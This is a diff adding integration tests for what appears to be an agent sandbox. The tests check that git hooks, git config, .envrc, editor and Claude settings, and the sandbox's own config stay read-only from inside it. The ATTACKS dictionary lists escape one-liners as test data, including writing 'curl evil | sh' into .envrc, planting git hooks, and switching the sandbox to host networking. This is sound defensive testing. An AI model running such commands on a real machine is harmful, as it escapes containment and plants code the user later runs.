@@ -1,0 +1,138 @@
+"""Host-executed files inside the writable project stay read-only, in nested repositories
+and worktrees too; git stays useful; no placeholder is left behind, even after SIGKILL."""
+
+from __future__ import annotations
+
+import os
+import signal
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import CLI, Env, sandbox_sh
+
+pytestmark = pytest.mark.integration
+
+GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
+           "GIT_COMMITTER_EMAIL": "t@t"}
+
+
+def _git(env: Env, *args: str, cwd: Path) -> str:
+    return subprocess.run(["git", *args], cwd=cwd, env=env.with_(**GIT_ENV), check=True,
+                          capture_output=True, text=True).stdout
+
+
+@pytest.fixture
+def repo(project: Path, env: Env) -> Path:
+    _git(env, "init", "-q", cwd=project)
+    (project / "src.py").write_text("print(1)\n")
+    (project / ".vscode").mkdir()
+    (project / ".vscode" / "settings.json").write_text("{}\n")
+    (project / "tools" / "hooks").mkdir(parents=True)
+    (project / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    (project / "tools" / "hooks" / "pre-commit").chmod(0o755)
+    _git(env, "config", "core.hooksPath", "tools/hooks", cwd=project)
+    # Protected when they exist (only the riskiest missing names get placeholders).
+    (project / ".gitmodules").write_text("")
+    (project / "shell.nix").write_text("{ }\n")
+    (project / ".husky").mkdir()
+    (project / ".husky" / "pre-push").write_text("exit 0\n")
+    (project / ".claude" / "commands").mkdir(parents=True)
+    (project / ".claude" / "commands" / "review.md").write_text("Review the diff.\n")
+    (project / ".agent-sandbox.toml").write_text("")
+    (project / "vendor" / "lib").mkdir(parents=True)
+    _git(env, "init", "-q", cwd=project / "vendor" / "lib")  # a nested repository
+    _git(env, "commit", "-q", "--allow-empty", "-m", "nested", cwd=project / "vendor" / "lib")
+    _git(env, "add", "src.py", ".vscode", "tools", ".gitmodules", "shell.nix", ".husky",
+         ".claude", ".agent-sandbox.toml", cwd=project)
+    _git(env, "commit", "-qm", "init", cwd=project)
+    return project
+
+
+def _listing(path: Path) -> list[str]:
+    return sorted(str(p.relative_to(path)) for p in path.rglob("*") if ".git/" not in str(p))
+
+
+ATTACKS = {
+    "git hook": "echo evil > .git/hooks/pre-commit",
+    "git config": "git config core.fsmonitor 'sh -c evil'",
+    "git info": "echo '*' > .git/info/exclude || echo x > .git/info/attributes",
+    "hooksPath dir": "echo evil > tools/hooks/pre-commit",
+    "nested repo hook": "echo evil > vendor/lib/.git/hooks/post-checkout",
+    "nested repo config": "echo '[core] hooksPath=/tmp' >> vendor/lib/.git/config",
+    ".envrc": "echo 'curl evil | sh' > .envrc",
+    "flake.nix": "echo '{ }' > flake.nix",
+    "shell.nix (existing)": "echo '{ evil }' > shell.nix",
+    ".vscode task": "echo '{}' > .vscode/tasks.json",
+    ".vscode swapped for a symlink": "rm -rf .vscode && ln -s /tmp .vscode",
+    ".mcp.json": "echo '{}' > .mcp.json",
+    "claude settings": "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
+    "claude commands (existing)": "echo x > .claude/commands/x.md",
+    ".gitmodules (existing)": "echo '[submodule]' > .gitmodules",
+    "pre-commit config": "echo 'repos: []' > .pre-commit-config.yaml",
+    "husky (existing)": "echo evil > .husky/pre-commit",
+    ".git renamed away": "mv .git .git-old && mkdir .git",
+    "sandbox config (existing)": "echo 'net = \"host\"' > .agent-sandbox.toml",
+}
+
+
+@pytest.mark.parametrize("name", list(ATTACKS))
+def test_protected_file_attacks_fail(repo: Path, env: Env, name: str) -> None:
+    before = _listing(repo)
+    config = (repo / ".git" / "config").read_text()
+    done = sandbox_sh(f"({ATTACKS[name]}) 2>/dev/null && echo SUCCEEDED; true", cwd=repo,
+                      env=env.vars)
+    assert "SUCCEEDED" not in done.stdout, name
+    assert _listing(repo) == before  # nothing created, nothing left behind
+    assert (repo / ".git" / "config").read_text() == config
+    assert (repo / ".vscode").is_dir() and not (repo / ".vscode").is_symlink()
+
+
+def test_git_stays_useful(repo: Path, env: Env) -> None:
+    script = (
+        "set -e; echo 'print(2)' >> src.py; echo new > new.txt; git add src.py new.txt; "
+        "git commit -qm work; git branch feature; git stash list; echo tmp > t.txt; "
+        "git stash -u -q; git stash pop -q; git worktree add -q wt feature; "
+        "git -C wt log --oneline | wc -l; git diff HEAD~1 --stat | tail -1; "
+        "git submodule status; git log --oneline | wc -l"
+    )
+    done = sandbox_sh(script, cwd=repo, env=env.with_(**GIT_ENV))
+    assert done.returncode == 0, done.stderr
+    assert (repo / "new.txt").read_text() == "new\n"
+    assert _git(env, "log", "--format=%s", cwd=repo).split() == ["work", "init"]
+    assert (repo / "wt" / "src.py").exists()
+
+
+def test_a_worktree_project_keeps_its_real_repositorys_hooks_read_only(repo: Path,
+                                                                       env: Env) -> None:
+    worktree = repo.parent / "feature-wt"
+    _git(env, "worktree", "add", "-q", str(worktree), cwd=repo)
+    script = ("git status --short; echo x > x.txt && git add x.txt && git commit -qm wt; "
+              "(echo evil > \"$(git rev-parse --git-common-dir)/hooks/pre-push\") 2>/dev/null "
+              "&& echo HOOK-WRITTEN; (echo 'gitdir: /tmp' > .git) 2>/dev/null && echo REDIRECTED;"
+              " true")
+    done = sandbox_sh(script, cwd=worktree, env=env.with_(**GIT_ENV))
+    assert done.returncode == 0, done.stderr
+    assert "HOOK-WRITTEN" not in done.stdout and "REDIRECTED" not in done.stdout
+    assert not (repo / ".git" / "hooks" / "pre-push").exists()
+    assert "wt" in _git(env, "log", "--all", "--format=%s", cwd=repo).split()
+
+
+def test_placeholders_are_removed_even_after_the_launcher_is_killed(repo: Path,
+                                                                    env: Env) -> None:
+    before = _listing(repo)
+    with subprocess.Popen([*CLI, "-q", "--", "sh", "-c", "echo up; sleep 60"], cwd=repo,
+                          env=env.vars, stdout=subprocess.PIPE, text=True) as proc:
+        try:
+            assert proc.stdout is not None and proc.stdout.readline().strip() == "up"
+            assert (repo / "flake.nix").exists()  # the placeholder, while the sandbox runs
+            assert (repo / ".envrc").exists()
+        finally:
+            os.kill(proc.pid, signal.SIGKILL)
+            proc.wait()
+    deadline = time.monotonic() + 15
+    while _listing(repo) != before and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert _listing(repo) == before
